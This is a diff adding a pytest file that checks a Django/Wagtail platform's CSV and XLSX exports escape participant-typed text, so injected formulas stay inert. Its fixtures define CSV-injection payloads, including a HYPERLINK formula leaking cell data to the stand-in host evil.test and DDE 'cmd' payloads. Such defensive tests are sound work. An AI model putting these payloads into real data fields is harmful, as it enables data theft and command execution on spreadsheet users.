@@ -1,0 +1,99 @@
+"""Every CSV and XLSX the platform writes: text a participant typed is never a live formula."""
+
+import csv
+import io
+import zipfile
+from datetime import date
+from decimal import Decimal
+
+import pytest
+from django.core.management import call_command
+from openpyxl import load_workbook
+from wagtail.log_actions import log
+
+from cohorts.models import HoursEntry
+from pd_platform.spreadsheets import csv_cell
+from tests import factories
+from tests.factories import CohortFactory, EnrollmentFactory
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.test/?d="&A2,"Details")'
+HOSTILE_DISTRICT = "+cmd|' /C calc'!A0"
+HOSTILE_SCHOOL = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile_enrollment(facilitator):
+    person = factories.participant(full_name=HOSTILE_NAME, district=HOSTILE_DISTRICT, school=HOSTILE_SCHOOL,
+                                   email="hostile@example.org")
+    enrollment = EnrollmentFactory(cohort=CohortFactory(facilitators=[facilitator]), user=person)
+    HoursEntry.objects.create(enrollment=enrollment, source="workshop", reference="s-1", date=date(2030, 1, 14),
+                              hours=Decimal("2.00"), hours_beyond_contract=Decimal("-1.00"))
+    return enrollment
+
+
+def csv_rows(body):
+    return list(csv.reader(io.StringIO(body)))
+
+
+def assert_escaped(row):
+    assert "'" + HOSTILE_NAME in row
+    assert "'" + HOSTILE_DISTRICT in row
+    assert "'" + HOSTILE_SCHOOL in row
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("Ada", "Ada"), ("", ""), (Decimal("-1.00"), Decimal("-1.00")), (3, 3), (None, None),
+])
+def test_text_cells_that_would_start_a_formula_are_escaped_and_numbers_kept(value, expected):
+    assert csv_cell(value) == expected
+
+
+def test_hours_csv_escapes_text_and_keeps_numbers(client, program_admin, hostile_enrollment):
+    client.force_login(program_admin)
+    body = b"".join(client.get("/certificates/reports/hours/", {"format": "csv"}).streaming_content).decode()
+    row = next(r for r in csv_rows(body) if r[0] == "hostile@example.org")
+    assert_escaped(row)
+    assert row[6] == "-1.00"  # a number, not text: left alone
+
+
+def test_hours_xlsx_stores_text_as_text_never_as_a_formula(client, program_admin, hostile_enrollment):
+    client.force_login(program_admin)
+    data = b"".join(client.get("/certificates/reports/hours/", {"format": "xlsx"}).streaming_content)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = load_workbook(io.BytesIO(data)).active
+    row = next(r for r in sheet.iter_rows() if r[0].value == "hostile@example.org")
+    assert row[1].value == HOSTILE_NAME and row[1].data_type == "s"
+    assert row[2].value == HOSTILE_DISTRICT and row[2].data_type == "s"
+    assert row[6].data_type == "n"
+
+
+def test_hours_report_command_escapes_csv_and_xlsx(tmp_path, hostile_enrollment):
+    call_command("training_hours_report", "--format", "csv", "--output", str(tmp_path / "hours.csv"))
+    row = next(r for r in csv_rows((tmp_path / "hours.csv").read_text()) if r[0] == "hostile@example.org")
+    assert_escaped(row)
+    call_command("training_hours_report", "--format", "xlsx", "--output", str(tmp_path / "hours.xlsx"))
+    with zipfile.ZipFile(tmp_path / "hours.xlsx") as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_gradebook_csv_escapes_names(client, facilitator, hostile_enrollment):
+    client.force_login(facilitator)
+    url = f"/cohorts/{hostile_enrollment.cohort_id}/gradebook/?format=csv"
+    body = b"".join(client.get(url).streaming_content).decode()
+    row = next(r for r in csv_rows(body) if r[0] == "hostile@example.org")
+    assert row[1] == "'" + HOSTILE_NAME
+
+
+def test_wagtail_admin_csv_exports_escape_names_too(client, program_admin, hostile_enrollment):
+    log(instance=hostile_enrollment.user, action="wagtail.edit", user=program_admin)
+    client.force_login(program_admin)
+    response = client.get("/admin/reports/site-history/", {"export": "csv"})
+    rows = csv_rows(b"".join(response.streaming_content).decode())
+    assert any("'" + HOSTILE_NAME in row for row in rows)
+    assert not any(cell.startswith("=") for row in rows for cell in row)
